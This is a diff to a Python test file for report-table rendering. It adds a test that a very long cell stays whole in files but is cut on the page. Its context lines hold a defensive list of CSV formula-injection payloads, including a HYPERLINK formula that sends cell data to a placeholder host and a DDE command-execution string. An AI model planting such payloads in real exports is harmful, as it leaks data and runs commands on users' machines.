@@ -18,6 +18,7 @@ from eval.report.tables import (
     csv_cell,
     latex,
     markdown,
+    page_lines,
     printed,
     with_rows,
     write_rows,
@@ -99,6 +100,12 @@ def test_hostile_text_stays_one_cell_in_every_language() -> None:
 
 
 FORMULAS = ['=HYPERLINK("http://x/"&A1,"y")', "+1+cmd|' /C calc'!A0", "-2+SUM(A1)", "@SUM(A1)", "\t=1", "\r=1", "\n=1"]
+
+
+def test_an_endless_cell_is_whole_in_files_and_cut_on_the_page() -> None:
+    table = with_rows("t", "T", {"name": ""}, [["a" * 5000 + "z"]])
+    ((_, [[(cell, _)]]),) = page_lines(table)["groups"]
+    assert (len(cell), cell[-1], len(comma_separated(table)) > 5000) == (400, "z", True)
 
 
 def test_no_text_in_a_csv_file_is_a_formula(tmp_path: Path) -> None:
